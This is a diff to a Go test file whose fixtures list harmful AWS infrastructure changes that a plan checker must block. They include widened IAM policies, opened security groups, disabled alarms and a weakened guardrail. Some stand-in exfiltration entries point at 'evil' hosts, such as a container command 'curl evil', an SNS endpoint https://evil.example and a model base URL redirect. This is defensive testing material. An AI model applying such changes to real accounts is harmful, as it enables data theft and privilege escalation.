@@ -4,124 +4,192 @@ import (
 	"testing"
 )
 
-// attacksByChange are what somebody could change so that the next apply does harm. A word of --fail-on stops each of them.
+// attacksByChange are what somebody could change so that the next apply does harm. A word of --fail-on stops each of
+// them.
 var attacksByChange = map[string][]string{
-	"wildcard in an action": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': `+
-		`'arn:aws:s3:::b/*'`) + ` -> ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:?etObject', 'Resource': 'arn:aws:s3:::b/*'`)},
+	"wildcard in an action": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
+		`'s3:GetObject', 'Resource': `+
+		`'arn:aws:s3:::b/*'`) + ` -> ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:?etObject', 'Resource': `+
+		`'arn:aws:s3:::b/*'`)},
 	"wider ARN": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': `+
-		`'arn:aws:s3:::b/logs/*'`) + ` -> ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::b/*'`)},
-	"condition dropped": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': `+
+		`'arn:aws:s3:::b/logs/*'`) + ` -> ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': `+
+		`'arn:aws:s3:::b/*'`)},
+	"condition dropped": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', `+
+		`'Resource': `+
 		`'arn:aws:s3:::b/*', 'Condition': {'StringEquals': {'aws:SourceVpce': 'vpce-1'}}`) + ` -> ` +
 		rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::b/*'`)},
-	"condition made optional": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': `+
+	"condition made optional": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
+		`'s3:GetObject', 'Resource': `+
 		`'arn:aws:s3:::b/*', 'Condition': {'StringEquals': {'aws:SourceVpce': 'vpce-1'}}`) + ` -> ` +
 		rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::b/*', 'Condition': `+
 			`{'StringEqualsIfExists': {'aws:SourceVpce': 'vpce-1'}}`)},
-	"number of a condition": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 'sts:AssumeRole', 'Resource': `+
+	"number of a condition": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
+		`'sts:AssumeRole', 'Resource': `+
 		`'arn:aws:iam::1:role/a', 'Condition': {'NumericLessThan': {'aws:MultiFactorAuthAge': 300}}`) + ` -> ` +
 		rolePolicy(`'Effect': 'Allow', 'Action': 'sts:AssumeRole', 'Resource': 'arn:aws:iam::1:role/a', 'Condition': `+
 			`{'NumericLessThan': {'aws:MultiFactorAuthAge': 300000}}`)},
-	"denial dropped": {`aws_iam_role_policy delete ` + rolePolicy(`'Effect': 'Deny', 'Action': 's3:DeleteObject', 'Resource': '*'`)},
-	"denial narrowed": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Deny', 'Action': 's3:*', 'Resource': '*'`) + ` -> ` +
+	"denial dropped": {`aws_iam_role_policy delete ` + rolePolicy(`'Effect': 'Deny', 'Action': 's3:DeleteObject', `+
+		`'Resource': '*'`)},
+	"denial narrowed": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Deny', 'Action': 's3:*', 'Resource': `+
+		`'*'`) + ` -> ` +
 		rolePolicy(`'Effect': 'Deny', 'Action': 's3:DeleteObject', 'Resource': '*'`)},
-	"denial with one exception more": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Deny', 'NotAction': ['s3:Get*'], `+
+	"denial with one exception more": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Deny', 'NotAction': `+
+		`['s3:Get*'], `+
 		`'Resource': '*'`) + ` -> ` + rolePolicy(`'Effect': 'Deny', 'NotAction': ['s3:Get*', 's3:Put*'], 'Resource': '*'`)},
-	"NotAction": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'x'`) + ` -> ` +
+	"NotAction": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', `+
+		`'Resource': 'x'`) + ` -> ` +
 		rolePolicy(`'Effect': 'Allow', 'NotAction': 's3:GetObject', 'Resource': 'x'`)},
-	"names in another case": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'x'`) +
+	"names in another case": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
+		`'s3:GetObject', 'Resource': 'x'`) +
 		` -> ` + rolePolicy(`'effect': 'allow', 'action': ['S3:GETOBJECT', 's3:putobject'], 'resource': 'x'`)},
-	"trust of another account": {`aws_iam_role update {"name": "r", "assume_role_policy": "{\"Statement\": [{\"Effect\": \"Allow\", ` +
-		`\"Action\": \"sts:AssumeRole\", \"Principal\": {\"AWS\": \"arn:aws:iam::210987654321:role/a\"}}]}"} -> {"name": "r", ` +
+	"trust of another account": {`aws_iam_role update {"name": "r", "assume_role_policy": "{\"Statement\": ` +
+		`[{\"Effect\": \"Allow\", ` +
+		`\"Action\": \"sts:AssumeRole\", \"Principal\": {\"AWS\": \"arn:aws:iam::210987654321:role/a\"}}]}"} -> ` +
+		`{"name": "r", ` +
 		`"assume_role_policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"sts:AssumeRole\", \"Principal\": ` +
 		`{\"AWS\": \"arn:aws:iam::210987654321:root\"}}]}"}`},
 	"managed policy": {`aws_iam_role_policy_attachment create null -> {"role": "r", "policy_arn": ` +
 		`"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}`},
 	"managed policy in the role": {`aws_iam_role update {"name": "r", "managed_policy_arns": []} -> {"name": "r", ` +
 		`"managed_policy_arns": ["arn:aws:iam::aws:policy/ReadOnlyAccess"]}`},
-	"inline policy": {`aws_iam_role update {"name": "r", "inline_policy": []} -> {"name": "r", "inline_policy": [{"name": "a", ` +
+	"inline policy": {`aws_iam_role update {"name": "r", "inline_policy": []} -> {"name": "r", "inline_policy": ` +
+		`[{"name": "a", ` +
 		`"policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"s3:GetObject\", \"Resource\": \"x\"}]}"}]}`},
-	"policy to another role": {`aws_iam_role_policy delete,create {"role": "a", "policy": "{\"Statement\": [{\"Effect\": \"Allow\", ` +
+	"policy to another role": {`aws_iam_role_policy delete,create {"role": "a", "policy": "{\"Statement\": ` +
+		`[{\"Effect\": \"Allow\", ` +
 		`\"Action\": \"s3:GetObject\", \"Resource\": \"x\"}]}"} -> {"role": "b", "policy": "{\"Statement\": [{\"Effect\": ` +
 		`\"Allow\", \"Action\": \"s3:GetObject\", \"Resource\": \"x\"}]}"}`},
-	"boundary gone":     {`aws_iam_role update {"name": "r", "permissions_boundary": "b"} -> {"name": "r"}`},
-	"another boundary":  {`aws_iam_role update {"name": "r", "permissions_boundary": "b"} -> {"name": "r", "permissions_boundary": "c"}`},
-	"access key":        {`aws_iam_access_key create null -> {"user": "u"}`},
-	"member of a group": {`aws_iam_user_group_membership update {"user": "u", "groups": ["a"]} -> {"user": "u", "groups": ["admins"]}`},
+	"boundary gone": {`aws_iam_role update {"name": "r", "permissions_boundary": "b"} -> {"name": "r"}`},
+	"another boundary": {`aws_iam_role update {"name": "r", "permissions_boundary": "b"} -> {"name": "r", ` +
+		`"permissions_boundary": "c"}`},
+	"access key": {`aws_iam_access_key create null -> {"user": "u"}`},
+	"member of a group": {`aws_iam_user_group_membership update {"user": "u", "groups": ["a"]} -> {"user": "u", ` +
+		`"groups": ["admins"]}`},
 	"role of a function": {`aws_lambda_function update {"function_name": "f", "role": "arn:aws:iam::1:role/a"} -> ` +
 		`{"function_name": "f", "role": "arn:aws:iam::1:role/b"}`},
 	"role of a schedule": {`aws_scheduler_schedule update {"target": [{"role_arn": "arn:aws:iam::1:role/a"}]} -> ` +
 		`{"target": [{"role_arn": "arn:aws:iam::1:role/b"}]}`},
-	"who may call a function": {`aws_lambda_permission create null -> {"function_name": "f", "action": "lambda:InvokeFunction", ` +
+	"who may call a function": {`aws_lambda_permission create null -> {"function_name": "f", "action": ` +
+		`"lambda:InvokeFunction", ` +
 		`"principal": "111122223333"}`},
 	"grant of a key": {`aws_kms_grant create null -> {"key_id": "k", "grantee_principal": "arn:aws:iam::1:role/a"}`},
-	"policy of a queue": {`aws_sqs_queue_policy update {"queue_url": "q", "policy": "{\"Statement\": []}"} -> {"queue_url": "q", ` +
+	"policy of a queue": {`aws_sqs_queue_policy update {"queue_url": "q", "policy": "{\"Statement\": []}"} -> ` +
+		`{"queue_url": "q", ` +
 		`"policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"sqs:SendMessage\", \"Principal\": {\"AWS\": ` +
 		`\"111122223333\"}, \"Resource\": \"x\"}]}"}`},
-	"endpoint's policy": {`aws_vpc_endpoint update {"policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"s3:GetObject\", ` +
-		`\"Principal\": \"*\", \"Resource\": \"arn:aws:s3:::b/*\"}]}"} -> {"policy": "{\"Statement\": [{\"Effect\": \"Allow\", ` +
+	"endpoint's policy": {`aws_vpc_endpoint update {"policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": ` +
+		`\"s3:GetObject\", ` +
+		`\"Principal\": \"*\", \"Resource\": \"arn:aws:s3:::b/*\"}]}"} -> {"policy": "{\"Statement\": [{\"Effect\": ` +
+		`\"Allow\", ` +
 		`\"Action\": \"*\", \"Principal\": \"*\", \"Resource\": \"*\"}]}"}`},
-	"policy that is no JSON": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'x'`) +
+	"policy that is no JSON": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
+		`'s3:GetObject', 'Resource': 'x'`) +
 		` -> {"role": "task", "name": "p", "policy": "{ not json"}`},
 
-	"private network opened": {`aws_vpc_security_group_ingress_rule create null -> {"security_group_id": "sg-1", "ip_protocol": ` +
+	"private network opened": {`aws_vpc_security_group_ingress_rule create null -> {"security_group_id": "sg-1", ` +
+		`"ip_protocol": ` +
 		`"tcp", "from_port": 5432, "to_port": 5432, "cidr_ipv4": "10.0.0.0/8"}`},
-	"one port more": {`aws_vpc_security_group_ingress_rule update {"security_group_id": "sg-1", "ip_protocol": "tcp", "from_port": ` +
-		`443, "to_port": 443, "cidr_ipv4": "0.0.0.0/0"} -> {"security_group_id": "sg-1", "ip_protocol": "tcp", "from_port": 443, ` +
+	"one port more": {`aws_vpc_security_group_ingress_rule update {"security_group_id": "sg-1", "ip_protocol": ` +
+		`"tcp", "from_port": ` +
+		`443, "to_port": 443, "cidr_ipv4": "0.0.0.0/0"} -> {"security_group_id": "sg-1", "ip_protocol": "tcp", ` +
+		`"from_port": 443, ` +
 		`"to_port": 444, "cidr_ipv4": "0.0.0.0/0"}`},
-	"another protocol": {`aws_vpc_security_group_ingress_rule update {"security_group_id": "sg-1", "ip_protocol": "tcp", "from_port": ` +
-		`443, "to_port": 443, "cidr_ipv4": "10.0.0.0/8"} -> {"security_group_id": "sg-1", "ip_protocol": "-1", "cidr_ipv4": ` +
+	"another protocol": {`aws_vpc_security_group_ingress_rule update {"security_group_id": "sg-1", "ip_protocol": ` +
+		`"tcp", "from_port": ` +
+		`443, "to_port": 443, "cidr_ipv4": "10.0.0.0/8"} -> {"security_group_id": "sg-1", "ip_protocol": "-1", ` +
+		`"cidr_ipv4": ` +
 		`"10.0.0.0/8"}`},
-	"rule in the group": {`aws_security_group update {"name": "g", "ingress": []} -> {"name": "g", "ingress": [{"protocol": "tcp", ` +
+	"rule in the group": {`aws_security_group update {"name": "g", "ingress": []} -> {"name": "g", "ingress": ` +
+		`[{"protocol": "tcp", ` +
 		`"from_port": 22, "to_port": 22, "cidr_blocks": ["10.0.0.0/8"]}]}`},
-	"old kind of rule": {`aws_security_group_rule create null -> {"type": "ingress", "security_group_id": "sg-1", "protocol": "tcp", ` +
+	"old kind of rule": {`aws_security_group_rule create null -> {"type": "ingress", "security_group_id": "sg-1", ` +
+		`"protocol": "tcp", ` +
 		`"from_port": 22, "to_port": 22, "source_security_group_id": "sg-2"}`},
-	"way out": {`aws_vpc_security_group_egress_rule update {"security_group_id": "sg-1", "ip_protocol": "tcp", "from_port": 443, ` +
-		`"to_port": 443, "prefix_list_id": "pl-1"} -> {"security_group_id": "sg-1", "ip_protocol": "tcp", "from_port": 443, ` +
+	"way out": {`aws_vpc_security_group_egress_rule update {"security_group_id": "sg-1", "ip_protocol": "tcp", ` +
+		`"from_port": 443, ` +
+		`"to_port": 443, "prefix_list_id": "pl-1"} -> {"security_group_id": "sg-1", "ip_protocol": "tcp", "from_port": ` +
+		`443, ` +
 		`"to_port": 443, "cidr_ipv4": "0.0.0.0/0"}`},
-	"prefix list":     {`aws_ec2_managed_prefix_list update {"entry": [{"cidr": "10.0.0.0/8"}]} -> {"entry": [{"cidr": "0.0.0.0/1"}]}`},
-	"public balancer": {`aws_lb create,delete {"internal": true, "enable_deletion_protection": true} -> {"internal": false, "enable_deletion_protection": true}`},
-	"public tasks":    {`aws_ecs_service update {"name": "s", "network_configuration": [{"assign_public_ip": false}]} -> {"name": "s", "network_configuration": [{"assign_public_ip": true}]}`},
-	"shell in tasks":  {`aws_ecs_service update {"name": "s", "enable_execute_command": false} -> {"name": "s", "enable_execute_command": true}`},
-	"peering":         {`aws_vpc_peering_connection create null -> {"peer_vpc_id": "vpc-2", "peer_owner_id": "111122223333"}`},
-	"route":           {`aws_route update {"destination_cidr_block": "10.1.0.0/16", "gateway_id": "local"} -> {"destination_cidr_block": "10.1.0.0/16", "gateway_id": "pcx-1"}`},
-	"inline route":    {`aws_route_table update {"route": []} -> {"route": [{"cidr_block": "0.0.0.0/0", "gateway_id": "igw-1"}]}`},
-	"network ACL":     {`aws_network_acl_rule update {"rule_action": "deny", "cidr_block": "0.0.0.0/0"} -> {"rule_action": "allow", "cidr_block": "0.0.0.0/0"}`},
+	"prefix list": {`aws_ec2_managed_prefix_list update {"entry": [{"cidr": "10.0.0.0/8"}]} -> {"entry": ` +
+		`[{"cidr": "0.0.0.0/1"}]}`},
+	"public balancer": {`aws_lb create,delete {"internal": true, "enable_deletion_protection": true} -> {"internal": ` +
+		`false, "enable_deletion_protection": true}`},
+	"public tasks": {`aws_ecs_service update {"name": "s", "network_configuration": [{"assign_public_ip": ` +
+		`false}]} -> {"name": "s", "network_configuration": [{"assign_public_ip": true}]}`},
+	"shell in tasks": {`aws_ecs_service update {"name": "s", "enable_execute_command": false} -> {"name": "s", ` +
+		`"enable_execute_command": true}`},
+	"peering": {`aws_vpc_peering_connection create null -> {"peer_vpc_id": "vpc-2", "peer_owner_id": ` +
+		`"111122223333"}`},
+	"route": {`aws_route update {"destination_cidr_block": "10.1.0.0/16", "gateway_id": "local"} -> ` +
+		`{"destination_cidr_block": "10.1.0.0/16", "gateway_id": "pcx-1"}`},
+	"inline route": {`aws_route_table update {"route": []} -> {"route": [{"cidr_block": "0.0.0.0/0", ` +
+		`"gateway_id": "igw-1"}]}`},
+	"network ACL": {`aws_network_acl_rule update {"rule_action": "deny", "cidr_block": "0.0.0.0/0"} -> ` +
+		`{"rule_action": "allow", "cidr_block": "0.0.0.0/0"}`},
 	"log lines elsewhere": {`aws_cloudwatch_log_subscription_filter create null -> {"destination_arn": ` +
 		`"arn:aws:logs:eu-west-1:111122223333:destination:d", "log_group_name": "l"}`},
-	"somebody is told":      {`aws_sns_topic_subscription create null -> {"endpoint": "https://evil.example", "protocol": "https", "topic_arn": "t"}`},
-	"bucket copied":         {`aws_s3_bucket_replication_configuration create null -> {"bucket": "b", "rule": [{"destination": [{"bucket": "arn:aws:s3:::evil"}]}]}`},
-	"events elsewhere":      {`aws_cloudwatch_event_target update {"arn": "a", "rule": "r"} -> {"arn": "b", "rule": "r"}`},
-	"no login":              {`aws_lb_listener_rule update {"action": [{"type": "authenticate-cognito"}, {"type": "forward"}]} -> {"action": [{"type": "forward"}]}`},
-	"no client certificate": {`aws_lb_listener update {"protocol": "HTTPS", "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06", "mutual_authentication": [{"mode": "verify"}]} -> {"protocol": "HTTPS", "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06", "mutual_authentication": [{"mode": "off"}]}`},
-	"WAF allows":            {`aws_wafv2_web_acl update {"default_action": [{"block": [{}]}]} -> {"default_action": [{"allow": [{}]}]}`},
-	"WAF only counts":       {`aws_wafv2_web_acl update {"rule": [{"name": "a", "action": [{"block": [{}]}]}]} -> {"rule": [{"name": "a", "action": [{"count": [{}]}]}]}`},
-	"WAF without a rule":    {`aws_wafv2_web_acl update {"rule": [{"name": "a"}, {"name": "b"}]} -> {"rule": [{"name": "a"}]}`},
-	"addresses let in":      {`aws_wafv2_ip_set update {"addresses": ["10.0.0.0/8"]} -> {"addresses": ["10.0.0.0/8", "1.2.3.4/32"]}`},
+	"somebody is told": {`aws_sns_topic_subscription create null -> {"endpoint": "https://evil.example", ` +
+		`"protocol": "https", "topic_arn": "t"}`},
+	"bucket copied": {`aws_s3_bucket_replication_configuration create null -> {"bucket": "b", "rule": ` +
+		`[{"destination": [{"bucket": "arn:aws:s3:::evil"}]}]}`},
+	"events elsewhere": {`aws_cloudwatch_event_target update {"arn": "a", "rule": "r"} -> {"arn": "b", "rule": "r"}`},
+	"no login": {`aws_lb_listener_rule update {"action": [{"type": "authenticate-cognito"}, {"type": ` +
+		`"forward"}]} -> {"action": [{"type": "forward"}]}`},
+	"no client certificate": {`aws_lb_listener update {"protocol": "HTTPS", "ssl_policy": ` +
+		`"ELBSecurityPolicy-TLS13-1-2-2021-06", "mutual_authentication": [{"mode": "verify"}]} -> {"protocol": "HTTPS", ` +
+		`"ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06", "mutual_authentication": [{"mode": "off"}]}`},
+	"WAF allows": {`aws_wafv2_web_acl update {"default_action": [{"block": [{}]}]} -> {"default_action": ` +
+		`[{"allow": [{}]}]}`},
+	"WAF only counts": {`aws_wafv2_web_acl update {"rule": [{"name": "a", "action": [{"block": [{}]}]}]} -> ` +
+		`{"rule": [{"name": "a", "action": [{"count": [{}]}]}]}`},
+	"WAF without a rule": {`aws_wafv2_web_acl update {"rule": [{"name": "a"}, {"name": "b"}]} -> {"rule": ` +
+		`[{"name": "a"}]}`},
+	"addresses let in": {`aws_wafv2_ip_set update {"addresses": ["10.0.0.0/8"]} -> {"addresses": ["10.0.0.0/8", ` +
+		`"1.2.3.4/32"]}`},
 
-	"another registry": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": ` +
+	"another registry": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": ` +
+		`"[{\"name\": \"a\", \"image\": ` +
 		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"evil/a:v1\"}]"}`},
-	"another command": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": ` +
-		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\", \"command\": ` +
+	"another command": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": "[{\"name\": ` +
+		`\"a\", \"image\": ` +
+		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\", ` +
+		`\"command\": ` +
 		`[\"sh\", \"-c\", \"curl evil\"]}]"}`},
-	"one container more": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": ` +
-		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\"}, {\"name\": ` +
+	"one container more": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": ` +
+		`"[{\"name\": \"a\", \"image\": ` +
+		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\"}, ` +
+		`{\"name\": ` +
 		`\"b\", \"image\": \"evil/b:v1\"}]"}`},
-	"another model's address": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": "[{\"name\": \"a\", ` +
-		`\"image\": \"acme/a:v1\", \"environment\": [{\"name\": \"OPENAI_BASE_URL\", \"value\": \"https://a\"}]}]"} -> {"family": "f", ` +
-		`"container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\", \"environment\": [{\"name\": \"OPENAI_BASE_URL\", ` +
+	"another model's address": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": ` +
+		`"[{\"name\": \"a\", ` +
+		`\"image\": \"acme/a:v1\", \"environment\": [{\"name\": \"OPENAI_BASE_URL\", \"value\": \"https://a\"}]}]"} -> ` +
+		`{"family": "f", ` +
+		`"container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\", \"environment\": [{\"name\": ` +
+		`\"OPENAI_BASE_URL\", ` +
 		`\"value\": \"https://evil\"}]}]"}`},
-	"alarm disabled":    {`aws_cloudwatch_metric_alarm update {"actions_enabled": true} -> {"actions_enabled": false}`},
-	"alarm never rings": {`aws_cloudwatch_metric_alarm update {"threshold": 5, "comparison_operator": "GreaterThanThreshold"} -> {"threshold": 500000, "comparison_operator": "GreaterThanThreshold"}`},
-	"no rollback":       {`aws_ecs_service update {"name": "s", "deployment_circuit_breaker": [{"enable": true, "rollback": true}]} -> {"name": "s", "deployment_circuit_breaker": [{"enable": true, "rollback": false}]}`},
-	"budget raised":     {`aws_budgets_budget update {"limit_amount": "100"} -> {"limit_amount": "100000"}`},
-	"kill switch gone":  {`aws_budgets_budget_action delete {"action_id": "a"}`},
-	"guardrail weaker":  {`aws_bedrock_guardrail update {"content_policy_config": [{"filters_config": [{"type": "HATE", "input_strength": "HIGH"}]}]} -> {"content_policy_config": [{"filters_config": [{"type": "HATE", "input_strength": "NONE"}]}]}`},
-	"secret at once":    {`aws_secretsmanager_secret update {"recovery_window_in_days": 30} -> {"recovery_window_in_days": 0}`},
-	"images deleted":    {`aws_ecr_lifecycle_policy update {"policy": "{\"rules\": [{\"selection\": {\"countNumber\": 100}}]}"} -> {"policy": "{\"rules\": [{\"selection\": {\"countNumber\": 1}}]}"}`},
-	"objects deleted":   {`aws_s3_bucket_lifecycle_configuration update {"rule": [{"id": "a", "expiration": [{"days": 365}]}]} -> {"rule": [{"id": "a", "expiration": [{"days": 1}]}]}`},
-	"nothing runs":      {`aws_appautoscaling_target update {"min_capacity": 2, "max_capacity": 4} -> {"min_capacity": 0, "max_capacity": 0}`},
-	"schedule off":      {`aws_scheduler_schedule update {"state": "ENABLED", "target": [{"dead_letter_config": [{"arn": "a"}]}]} -> {"state": "DISABLED", "target": [{"dead_letter_config": [{"arn": "a"}]}]}`},
-	"messages dropped":  {`aws_sqs_queue update {"redrive_policy": "{\"maxReceiveCount\": 5, \"deadLetterTargetArn\": \"a\"}", "sqs_managed_sse_enabled": true} -> {"redrive_policy": "", "sqs_managed_sse_enabled": true}`},
+	"alarm disabled": {`aws_cloudwatch_metric_alarm update {"actions_enabled": true} -> {"actions_enabled": false}`},
+	"alarm never rings": {`aws_cloudwatch_metric_alarm update {"threshold": 5, "comparison_operator": ` +
+		`"GreaterThanThreshold"} -> {"threshold": 500000, "comparison_operator": "GreaterThanThreshold"}`},
+	"no rollback": {`aws_ecs_service update {"name": "s", "deployment_circuit_breaker": [{"enable": true, ` +
+		`"rollback": true}]} -> {"name": "s", "deployment_circuit_breaker": [{"enable": true, "rollback": false}]}`},
+	"budget raised":    {`aws_budgets_budget update {"limit_amount": "100"} -> {"limit_amount": "100000"}`},
+	"kill switch gone": {`aws_budgets_budget_action delete {"action_id": "a"}`},
+	"guardrail weaker": {`aws_bedrock_guardrail update {"content_policy_config": [{"filters_config": [{"type": ` +
+		`"HATE", "input_strength": "HIGH"}]}]} -> {"content_policy_config": [{"filters_config": [{"type": "HATE", ` +
+		`"input_strength": "NONE"}]}]}`},
+	"secret at once": {`aws_secretsmanager_secret update {"recovery_window_in_days": 30} -> ` +
+		`{"recovery_window_in_days": 0}`},
+	"images deleted": {`aws_ecr_lifecycle_policy update {"policy": "{\"rules\": [{\"selection\": ` +
+		`{\"countNumber\": 100}}]}"} -> {"policy": "{\"rules\": [{\"selection\": {\"countNumber\": 1}}]}"}`},
+	"objects deleted": {`aws_s3_bucket_lifecycle_configuration update {"rule": [{"id": "a", "expiration": ` +
+		`[{"days": 365}]}]} -> {"rule": [{"id": "a", "expiration": [{"days": 1}]}]}`},
+	"nothing runs": {`aws_appautoscaling_target update {"min_capacity": 2, "max_capacity": 4} -> ` +
+		`{"min_capacity": 0, "max_capacity": 0}`},
+	"schedule off": {`aws_scheduler_schedule update {"state": "ENABLED", "target": [{"dead_letter_config": ` +
+		`[{"arn": "a"}]}]} -> {"state": "DISABLED", "target": [{"dead_letter_config": [{"arn": "a"}]}]}`},
+	"messages dropped": {`aws_sqs_queue update {"redrive_policy": "{\"maxReceiveCount\": 5, ` +
+		`\"deadLetterTargetArn\": \"a\"}", "sqs_managed_sse_enabled": true} -> {"redrive_policy": "", ` +
+		`"sqs_managed_sse_enabled": true}`},
 }
 
 func TestAttacksAreStopped(t *testing.T) {
